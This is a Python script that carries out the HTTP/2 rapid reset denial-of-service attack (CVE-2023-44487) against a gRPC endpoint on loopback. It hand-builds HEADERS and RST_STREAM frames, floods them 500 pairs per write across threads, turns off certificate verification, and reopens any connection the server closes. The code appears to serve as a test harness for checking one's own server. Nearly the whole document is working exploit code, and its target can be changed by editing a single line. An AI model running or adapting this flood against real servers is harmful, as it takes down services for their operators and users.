"""HTTP/2 rapid reset (CVE-2023-44487) on loopback, in raw frames: on each of
`connections` connections, HEADERS for a gRPC call immediately followed by
RST_STREAM(CANCEL), 500 pairs per write, for `seconds` seconds; a connection
the server closes (GOAWAY, limits) is replaced. Plaintext (h2c) or TLS with
ALPN h2 (certificate not verified). What the server sends is read and
dropped. No HTTP/2 library needed: the header block is hand-encoded HPACK.
"""

import socket
import ssl
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 8


def _frame(ftype, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", stream & 0x7FFFFFFF) + payload


def _literal(index, value):
    """Literal header field without indexing, indexed name (4-bit prefix)."""
    v = value.encode()
    if index < 15:
        head = bytes([index])
    else:
        head = bytes([15, index - 15])
    return head + bytes([len(v)]) + v


def _header_block(authority, scheme_https):
    block = b"\x83"                                   # :method POST
    block += b"\x87" if scheme_https else b"\x86"     # :scheme
    block += _literal(4, "/streamgate.v1.Gateway/PublishEvent")  # :path
    block += _literal(1, authority)                   # :authority
    block += _literal(31, "application/grpc")         # content-type
    block += b"\x00\x02te\x08trailers"                # te: trailers
    return block


def _connect(port, tls):
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    if tls:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        s = ctx.wrap_socket(s, server_hostname="localhost")
    s.sendall(PREFACE + _frame(4, 0, 0, b""))          # empty SETTINGS
    return s


def _drain(sock, stop):
    sock.settimeout(0.5)
    while not stop.is_set():
        try:
            if not sock.recv(65536):
                return
        except socket.timeout:
            continue
        except OSError:
            return


def _one_connection(port, tls, deadline, counts, lock):
    block = _header_block("127.0.0.1:%d" % port, tls)
    while time.monotonic() < deadline:
        try:
            sock = _connect(port, tls)
        except OSError:
            time.sleep(0.05)
            continue
        with lock:
            counts["connections"] += 1
        stop = threading.Event()
        reader = threading.Thread(target=_drain, args=(sock, stop), daemon=True)
        reader.start()
        stream = 1
        try:
            while time.monotonic() < deadline:
                chunk = []
                for _ in range(500):
                    chunk.append(_frame(1, 0x4, stream, block))  # END_HEADERS
                    chunk.append(_frame(3, 0, stream, struct.pack(">I", CANCEL)))
                    stream += 2
                sock.sendall(b"".join(chunk))
                with lock:
                    counts["streams"] += 500
                if stream > 0x7FFF0000:
                    break
        except OSError:
            pass
        stop.set()
        try:
            sock.close()
        except OSError:
            pass
        reader.join(1)


def attack(port, seconds=6.0, connections=2, tls=False):
    """Runs the attack; returns {"streams": N, "connections": M} (streams
    written, connections opened)."""
    counts = {"streams": 0, "connections": 0}
    lock = threading.Lock()
    deadline = time.monotonic() + seconds
    threads = [threading.Thread(target=_one_connection,
                                args=(port, tls, deadline, counts, lock))
               for _ in range(connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return counts


if __name__ == "__main__":
    import sys
    print(attack(int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3]),
                 len(sys.argv) > 4 and sys.argv[4] == "tls"))
